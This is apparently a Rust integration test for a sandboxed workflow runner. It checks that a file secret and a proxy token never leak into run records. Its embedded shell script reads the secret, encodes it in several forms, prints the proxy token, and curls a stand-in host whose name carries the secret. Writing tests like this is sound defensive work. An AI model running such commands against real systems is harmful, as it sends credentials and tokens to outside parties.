//! Attack test of issue 15 item 8 in a real sandbox: a tool node reads a file secret and prints
//! it plainly, base64- and hex-encoded and reversed, sends a blocked request to
//! `http://<value>.nope.test/` (whose `network_blocked` event names that host), and prints its
//! environment, which carries the per-run proxy token in `HTTP_PROXY`. No form of the value nor
//! the token is in the record: events, run log, checkpoint, failure message, the CLI's output,
//! nor the bytes of the database files.

use base64::Engine as _;
use iterion_test_support::static_iterion_or_skip;

use crate::suite::support::{Env, IMAGE, docker_or_skip, first};

const FILE_VALUE: &str = "fv-4b1d9c07e2a85f36kq";

fn forms(value: &str) -> Vec<(String, String)> {
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    vec![
        ("plain".into(), value.to_owned()),
        ("reversed".into(), value.chars().rev().collect()),
        (
            "hex".into(),
            value.bytes().map(|b| format!("{b:02x}")).collect(),
        ),
        ("base64".into(), b64(value)),
        ("base64 of t:value".into(), b64(&format!("t:{value}"))),
    ]
}

/// The forms of `value` of which a 10-character piece of the interior shows in `text`.
fn leaks(value: &str, text: &str) -> Vec<String> {
    let text = text.to_ascii_lowercase();
    forms(value)
        .into_iter()
        .filter(|(_, form)| {
            let form = form.to_ascii_lowercase();
            let inner = &form.as_bytes()[3..form.len() - 3];
            inner
                .windows(10)
                .any(|w| text.contains(std::str::from_utf8(w).unwrap()))
        })
        .map(|(name, _)| name)
        .collect()
}

#[test]
fn docker_a_node_printing_a_file_secret_and_the_proxy_token_leaves_neither_in_the_record() {
    if !docker_or_skip("cli::record_secrets::docker_no_secret_in_the_record") {
        return;
    }
    let Some(static_bin) =
        static_iterion_or_skip("cli::record_secrets::docker_no_secret_in_the_record")
    else {
        return;
    };
    let env = Env::new();
    let script = "v=$(cat \"$KEY_FILE\"); env > env.txt; env; \
         printf '%s\\n' \"$v\"; printf '%s' \"$v\" | base64; \
         printf '%s' \"$v\" | od -An -tx1 | tr -d ' \\n'; echo; printf '%s\\n' \"$v\" | rev; \
         curl -s --max-time 10 \"http://$v.nope.test/\"; echo; \
         printf '%s' \"$HTTP_PROXY\" | base64 -w0; echo; \
         printf '%s' \"$HTTP_PROXY\" | rev; echo; \
         printf '{\"v\": \"%s\", \"proxy\": \"%s\"}' \"$v\" \"$HTTP_PROXY\"";
    env.write(
        "values.iter",
        &format!(
            "secrets:\n  key:\n    value: \"${{ITERION_TEST_KEY}}\"\n    as: file\n    env: \"KEY_FILE\"\n\ntool probe:\n  command: `{script}`\n\ntool later:\n  command: `echo \"$HTTP_PROXY\" >&2; cat \"$KEY_FILE\" >&2; exit 1`\n\nworkflow values:\n  entry: probe\n  sandbox:\n    image: \"{IMAGE}\"\n    network:\n      mode: allowlist\n      rules: [\"scoped.test\"]\n  probe -> later\n  later -> done\n"
        ),
    );
    let out = env
        .cmd()
        .args(["run", "values.iter"])
        .env("ITERION_BIN", &static_bin)
        .env("ITERION_TEST_KEY", FILE_VALUE)
        .output()
        .unwrap();
    let run = env.only_run();
    let events = env.events(&run);
    let logs = env.logs(&run);
    // The tool ran in the sandbox, behind the proxy, and the blocked request was recorded.
    let tool_env = std::fs::read_to_string(env.path("env.txt"))
        .unwrap_or_else(|e| panic!("{e}: {events:#?}\n{logs:#?}"));
    let proxy_url = tool_env
        .lines()
        .find_map(|l| l.strip_prefix("HTTP_PROXY="))
        .unwrap_or_else(|| panic!("no HTTP_PROXY: {tool_env}"));
    let token = proxy_url
        .strip_prefix("http://t:")
        .and_then(|rest| rest.split('@').next())
        .unwrap_or_else(|| panic!("no token in {proxy_url}"))
        .to_owned();
    assert_eq!(token.len(), 64, "{proxy_url}");
    assert!(
        first(&events, "network_blocked").is_some(),
        "{events:#?}\n{logs:#?}"
    );
    assert!(first(&events, "node_finished").is_some(), "{events:#?}");
    assert_eq!(run.status.as_str(), "failed_resumable", "{events:#?}");
    let record = [
        ("events", format!("{events:?}")),
        ("run log", format!("{logs:?}")),
        ("checkpoint", format!("{:?}", run.checkpoint)),
        ("failure message", format!("{:?}", run.failure_message)),
        (
            "cli output",
            format!(
                "{}{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            ),
        ),
    ];
    let mut failures = Vec::new();
    for (what, text) in &record {
        for (name, value) in [("file secret", FILE_VALUE), ("proxy token", token.as_str())] {
            let found = leaks(value, text);
            if !found.is_empty() {
                failures.push(format!("{name} {found:?} in the {what}: {text}"));
            }
        }
    }
    assert_eq!(failures, Vec::<String>::new());
    // The redaction markers show the tool did print them.
    let logs_text = format!("{logs:?}");
    assert!(logs_text.contains("[REDACTED:key]"), "{logs_text}");
    assert!(logs_text.contains("***"), "{logs_text}");
    let db = env.db();
    let dir = db.parent().unwrap();
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        let path = entry.path();
        if path.is_file() {
            let bytes = String::from_utf8_lossy(&std::fs::read(&path).unwrap()).into_owned();
            for value in [FILE_VALUE, token.as_str()] {
                let found = leaks(value, &bytes);
                assert!(found.is_empty(), "{}: {found:?}", path.display());
            }
        }
    }
    assert_eq!(env.containers(), Vec::<String>::new());
}
